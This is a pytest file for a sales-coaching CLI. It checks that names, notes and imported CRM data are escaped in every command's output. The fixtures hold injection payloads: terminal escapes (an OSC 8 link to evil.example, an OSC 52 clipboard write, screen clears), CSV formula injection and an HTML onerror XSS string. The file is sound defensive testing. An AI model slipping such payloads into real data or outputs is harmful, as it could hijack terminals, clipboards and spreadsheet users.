"""Data never becomes terminal escapes, rich markup, spreadsheet formulas or Markdown (issue
17): a repository whose names, notes, goals, actions, deal names, CRM owner cells and
activity subjects carry ESC sequences, C1 controls, carriage returns, rich markup, emoji
codes, CSV formulas and HTML, and every command of the app in every format it has, run over
it. The commands are listed from the app itself, so a new one cannot be missed."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner, Result

from salescoach.cli.app import app

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "acme"
TODAY = "2026-11-27"

OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J"
OSC52 = "\x1b]52;c;SGVsbG8=\x07"
CSI_C1 = "\x9b31m"
FORMULA = '=HYPERLINK("http://x"&A1,"Click")'
IMG = "<img src=x onerror=alert(1)>"

MANAGER_NAME = f"[link=https://x]Anna[/link] Kovács [/ops] {OSC8}"
REP_NAME = f"Petra Nagy [intern] {CLEAR}\r:thumbs_up:"
HOSTILE = {
    "rating note": FORMULA,
    "plus": "+1",
    "minus": "-2+3",
    "at": f"@SUM(A1) {CSI_C1}",
    "goal": f"{IMG} {OSC52}",
    "help": f":thumbs_up: {CLEAR}\rgone",
    "action": f"{FORMULA} [intern] {OSC8}",
    "notes": f"{OSC52} line one\rline two {CSI_C1}",
}

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""A control character in output: everything but newline and tab (and CR of .ics's CRLF)."""
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
LIVE_MARKDOWN = re.compile(r"(?<!\\)(<img|\[link=|\[intern|\[/ops)")
"""HTML or a link of the data that Markdown would render (an escaped one has a backslash)."""


def _yaml(text: str) -> str:
    """A YAML double-quoted scalar of ``text`` (JSON's escapes are YAML's)."""
    return json.dumps(text)


def _hostile_meeting(path: Path) -> None:
    """The latest meeting of anna-kovacs with hostile ratings, goals, actions and notes."""
    text = path.read_text(encoding="utf-8")
    text = text.replace('note: "96%, steady"}', f"note: {_yaml(HOSTILE['rating note'])}}}", 1)
    text = text.replace(
        'note: "Hajdú framework signed, 121% of target"', f"note: {_yaml(HOSTILE['plus'])}"
    )
    text = text.replace(
        "note: On pace for 101% of November ramp-up target", f"note: {_yaml(HOSTILE['minus'])}"
    )
    text = text.replace(
        'note: "82%, two quotes slipped to next month"', "note: " + _yaml(HOSTILE["at"])
    )
    text = text.replace(
        "goal: Recover Balaton Pack volume to last year’s level", f"goal: {_yaml(HOSTILE['goal'])}"
    )
    text = text.replace(
        "manager_help: Meets their purchasing director with her",
        f"manager_help: {_yaml(HOSTILE['help'])}",
    )
    text = text.replace(
        "do: Book a half-day for Q1 territory planning,", "do: " + _yaml(HOSTILE["action"]) + ","
    )
    text = text.replace(
        "  Best 1:1 so far. Anna now spends most of her week with the reps.",
        "  Best 1:1 so far.\n",
    )
    text += "\n# hostile\n"
    text = text.replace("notes: |\n  Best 1:1 so far.\n", f"notes: {_yaml(HOSTILE['notes'])}\n")
    path.write_text(text, encoding="utf-8")


DEALS = [
    ["id", "name", "owner", "stage", "amount", "created", "closed"],
    [
        "D1",
        f"Globex {CLEAR}{OSC52} [intern] {FORMULA}",
        "Petra Nagy",
        "Proposal",
        "90000",
        "2026-10-01",
        "",
    ],
    ["D2", IMG, "Petra Nagy", "Closed Won", "5000", "2026-09-01", "2026-11-20"],
    ["D3", "+1", f"{IMG} [link=https://x]x[/link] {FORMULA}", "Proposal", "100", "2026-11-01", ""],
    ["D4", "@SUM(A1)", "-2+3 [/ops] :thumbs_up:", "Meeting", "7000", "2026-11-02", ""],
]
ACTIVITIES = [
    ["id", "type", "owner", "date", "done", "subject", "deal"],
    ["a1", "call", "Petra Nagy", "2026-11-20", "yes", f"{OSC8} [intern] {CSI_C1}", "D1"],
    ["a2", "call", f"{IMG} =1+1", "2026-11-21", "yes", FORMULA, "D1"],
]


def _csv_file(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    return path


def _run(root: Path, *args: object) -> Result:
    runner = CliRunner()
    every = ["--repo", str(root), "--today", TODAY, *(str(a) for a in args)]
    return runner.invoke(
        app, every, catch_exceptions=False, env={"FORCE_COLOR": None, "TERM": "dumb"}
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """examples/acme with hostile text in a manager's and a rep's name, the latest meeting's
    notes, ratings, goals and actions, and an imported deal and activity export."""
    base = tmp_path_factory.mktemp("hostile")
    root = base / "acme"
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns(".salescoach-*"))
    manager = root / "managers" / "anna-kovacs.yaml"
    text = manager.read_text(encoding="utf-8")
    text = text.replace("name: Anna Kovács", f"name: {_yaml(MANAGER_NAME)}", 1)
    text = text.replace("    name: Petra Nagy\n", f"    name: {_yaml(REP_NAME)}\n", 1)
    manager.write_text(text, encoding="utf-8")
    _hostile_meeting(root / "meetings" / "anna-kovacs" / "2026-11-23.yaml")
    deals = _csv_file(base / "deals.csv", DEALS)
    imported = _run(root, "funnel", "import", deals, "--as-of", "2026-11-26")
    assert imported.exit_code == 0, imported.output
    acts = _csv_file(base / "acts.csv", ACTIVITIES)
    imported = _run(root, "funnel", "import", acts, "--activities", "--as-of", "2026-11-26")
    assert imported.exit_code == 0, imported.output
    checked = _run(root, "check")
    assert checked.exit_code == 0, checked.output
    return root


# ---------------------------------------------------------------- every command, every format


def _commands() -> Iterator[tuple[str, tuple[str, ...]]]:
    """Every command of the app (a group that runs by itself too) with its formats."""
    root = typer.main.get_command(app)
    ctx = root.make_context("salescoach", [], resilient_parsing=True)

    def walk(command: object, path: list[str]) -> Iterator[tuple[str, tuple[str, ...]]]:
        params = getattr(command, "params", [])
        formats = [p for p in params if "--format" in getattr(p, "opts", [])]
        choices = tuple(getattr(formats[0].type_descriptor, "choices", ())) if formats else ()
        if not hasattr(command, "list_commands") or (path and formats):
            yield " ".join(path), choices or ("text",)
        if hasattr(command, "list_commands"):
            for name in command.list_commands(ctx):
                yield from walk(command.get_command(ctx, name), [*path, name])

    yield from walk(root, [])


READING: dict[str, list[str]] = {
    "check": [],
    "schema": ["manager"],
    "schedule": [],
    "schedule next": ["anna-kovacs"],
    "calendar export": [],
    "rate show": [],
    "agenda next": ["anna-kovacs"],
    "goals": ["anna-kovacs"],
    "actions": [],
    "coach scorecard": [],
    "deal list": ["anna-kovacs"],
    "funnel review": [],
    "funnel import": ["{deals}", "--as-of", "2026-11-26"],
}
"""The commands that read, with their arguments: run over the one hostile repository."""
WRITING: dict[str, list[str]] = {
    "rate rep": ["petra-nagy", "3", "--note", f"{FORMULA} {OSC8}", "--date", "2026-11-23"],
    "meeting move": ["anna-kovacs", "--to", "2026-12-01", "--because", f"{CLEAR}[intern]"],
    "goal grade": ["anna-kovacs", "2026-11-23#1", "met"],
    "plan add": ["anna-kovacs", f"{FORMULA} {OSC52}", "--due", "2026-12-20"],
    "plan done": ["anna-kovacs", "3"],
    "action add": [
        "anna-kovacs",
        f"@SUM(A1) {OSC8} [intern]",
        "--owner",
        "coach",
        "--due",
        "2026-12-10",
    ],
    "action done": ["anna-kovacs", "2026-11-23#2"],
    "deal note": [
        *("anna-kovacs", "D1", "--strategy", f"{FORMULA}{CLEAR}", "--next-step", IMG),
        *("--owner", "manager", "--due", "2026-12-10"),
    ],
    "deal done": ["anna-kovacs", "D1"],
    "manager add": [f"Bad [intern] {CLEAR}"],
    "manager leave": ["gabor-szabo", "--date", "2026-11-27"],  # refused: the team has reps
    "rep add": ["anna-kovacs", f"Evil [/ops] {OSC52}"],
    "rep move": ["petra-nagy", "--to", "gabor-szabo", "--date", "2026-11-27"],
    "rep leave": ["petra-nagy", "--date", "2026-11-27"],
}
"""The commands that write, with hostile text where they take text: each on its own copy."""
REFUSED = {"deal done": 1, "manager leave": 2}
"""Writers refused here (no planned 1:1 to record in; a manager with reps cannot leave): the
refusal names the data, and must say it safely."""
NEEDS: dict[str, str] = {}
"""Cases that need a line changed in a file this part does not own (docs/hardening.md)."""


def _needs(case: str) -> list[pytest.MarkDecorator]:
    reason = NEEDS.get(case)
    return [pytest.mark.xfail(strict=True, reason=reason)] if reason else []


APART = {
    "init": "makes a new repository: no data to show (tests/hostile/test_writers.py)",
    "calendar sync": "needs a CalDAV server (tests/test_calendar_sync.py)",
    "completion bash": "prints the shell's script, no data",
    "completion zsh": "prints the shell's script, no data",
    "completion fish": "prints the shell's script, no data",
    "team import": "reads a team file (its own hostile cases are the CRM's)",
    "report": "writes an HTML file: its escaping is tested in tests/test_report.py",
}


def test_every_command_is_run_or_said_why_not() -> None:
    listed = {name for name, _formats in _commands()}
    assert listed - set(READING) - set(WRITING) - set(APART) == set()


def _cases() -> list[object]:
    return [
        pytest.param(n, f, id=f"{n}-{f}", marks=_needs(f"{n}-{f}"))
        for n, formats in _commands()
        if n in READING
        for f in formats
    ]


def _args(name: str, fmt: str, root: Path) -> list[str]:
    args = [a.replace("{deals}", str(root.parent / "deals.csv")) for a in READING[name]]
    return [*name.split(), *args, *(["-f", fmt] if fmt != "text" or name in _with_format() else [])]


def _with_format() -> set[str]:
    return {n for n, formats in _commands() if formats != ("text",)}


def assert_safe(result: Result, fmt: str, name: str, codes: tuple[int, ...] = (0,)) -> None:
    """No crash, no control character of the data on stdout or stderr, CSV cells that no
    spreadsheet runs, Markdown without live HTML or links."""
    assert result.exit_code in codes, (name, fmt, result.exit_code, result.output[-2000:])
    assert "Traceback" not in result.output
    out = result.stdout.replace("\r\n", "\n") if name == "calendar export" else result.stdout
    for stream, text in (("stdout", out), ("stderr", result.stderr)):
        found = CONTROL.search(text)
        assert found is None, (
            name,
            fmt,
            stream,
            text[max(0, found.start() - 60) : found.end() + 60],
        )
    if fmt == "json":
        json.loads(result.stdout)
    if fmt == "csv":
        for row in csv.reader(io.StringIO(result.stdout)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")) or NUMBER.fullmatch(cell), cell
    if fmt == "markdown":
        assert LIVE_MARKDOWN.search(result.stdout) is None, name


@pytest.mark.parametrize(("name", "fmt"), _cases())
def test_reading_commands_show_data_as_text(hostile: Path, name: str, fmt: str) -> None:
    result = _run(hostile, *_args(name, fmt, hostile))
    assert_safe(result, fmt, name)


NAMES_SHOWN = ("schedule", "schedule next", "rate show", "agenda next", "funnel review")


@pytest.mark.parametrize("name", NAMES_SHOWN)
def test_names_are_shown_literally_never_as_markup(hostile: Path, name: str) -> None:
    result = _run(hostile, *_args(name, "text", hostile))
    assert result.exit_code == 0, result.output
    shown = result.stdout
    if name in ("schedule", "schedule next"):
        assert "[link=https://x]Anna[/link] Kovács [/ops] \\x1b]8;;http://evil.example/" in shown
    else:
        assert "Petra Nagy [intern] \\x1b[2J" in shown
        assert ":thumbs_up:" in shown


@pytest.mark.parametrize("name", [pytest.param(n, marks=_needs(n)) for n in sorted(WRITING)])
def test_writing_commands_echo_data_as_text(hostile: Path, tmp_path: Path, name: str) -> None:
    root = tmp_path / "acme"
    shutil.copytree(hostile, root)
    result = _run(root, *name.split(), *WRITING[name])
    assert_safe(result, "text", name, codes=(REFUSED.get(name, 0),))
